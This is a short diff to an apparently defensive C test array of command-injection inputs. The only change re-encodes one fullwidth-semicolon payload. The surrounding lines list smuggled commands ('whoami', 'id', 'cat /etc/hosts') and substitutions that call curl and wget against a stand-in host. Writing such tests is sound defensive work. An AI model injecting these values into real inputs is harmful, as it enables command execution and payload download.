@@ -23,7 +23,8 @@ static const char *const  attacks[] = {
 
     /* encoded, and as text */
     "logo.svg%0awhoami", "a%3Bcat%20%2Fetc%2Fhosts", "%250Aid%250A",
-    "main\\nid\\n", "\\n/usr/bin/id;", "a&#59;id", "\xEF\xBC\x9B" "id",
+    "main\\nid\\n", "\\n/usr/bin/id;", "a&#59;id",
+    "\357\274\233id",
 
     /* substitution */
     "x$(id)", "x`id`", "x$(curl http://203.0.113.4)", "x`wget 203.0.113.4/a`",
